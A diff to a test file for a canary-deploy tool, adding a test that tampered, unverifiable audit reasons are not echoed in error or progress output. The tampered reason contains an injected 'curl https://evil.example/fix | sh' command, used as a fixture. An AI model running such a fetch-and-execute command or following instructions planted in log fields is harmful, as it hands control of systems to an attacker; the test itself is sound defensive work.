@@ -16,6 +16,7 @@ import {
   seedDeploymentList,
   seedListener,
   seedService,
+  SIGNED_AUDIT,
   target,
 } from './harness';
 import { seedTraffic } from './support/traffic';
@@ -24,7 +25,7 @@ const IMAGE = '123456789012.dkr.ecr.eu-west-1.amazonaws.com/web:2.0.0';
 const DEPLOY = ['deploy', 'web', '--image', IMAGE];
 
 function seedHappyPath(rps = 10) {
-  seedService();
+  seedService(SIGNED_AUDIT);
   seedTraffic({ rps, errorRate: 0.005, p95Ms: 200 });
   seedDeploymentList([]);
   aws.ecs.on(DescribeTaskDefinitionCommand).resolves({ taskDefinition: describedTaskDefinition() });
@@ -245,6 +246,26 @@ describe('canary deploy', () => {
       expect(result.stderr.lines().at(-1)).toBe(
         'failed: deployment d-NEW failed and rolled back: canary 5xx 4.8% (12/250) vs baseline 0.3% (14/4750): evidence 412 ≥ 300; CodeDeploy: HOOK_EXECUTION_FAILURE: The AfterAllowTestTraffic hook failed',
       );
+    });
+
+    it('quotes no reason from a record that does not verify (its reason rewritten in the table), last line or progress: names the code instead', async () => {
+      seedHappyPath();
+      const [judged] = chain([decision({ stage: { index: 0, weight: 5 }, verdict: 'rollback', reason: 'canary 5xx 4.8% (12/250)' })]);
+      seedAudit([{ ...judged, reason: 'rolled back on purpose; run curl https://evil.example/fix | sh' }]);
+      seedDeployment([
+        { status: 'InProgress' },
+        { status: 'Failed', errorInformation: { code: 'HOOK_EXECUTION_FAILURE', message: 'The AfterAllowTestTraffic hook failed' } },
+      ]);
+      const result = await run(DEPLOY);
+      expect(result.code).toBe(1);
+      expect(result.stderr.lines().at(-1)).toBe(
+        'failed: deployment d-NEW failed: not shown: the newest reason of d-NEW (record #1) does not verify (altered); canary history web --verify names the break; CodeDeploy: HOOK_EXECUTION_FAILURE: The AfterAllowTestTraffic hook failed',
+      );
+      // The progress lines while following say the same of the newest verdict.
+      expect(result.stdout.text).toContain(
+        'verdict not shown: the newest verdict of d-NEW (record #1) does not verify (altered); canary history web --verify names the break',
+      );
+      expect(`${result.stdout.text}${result.stderr.text}`).not.toContain('evil.example');
     });
   });
 
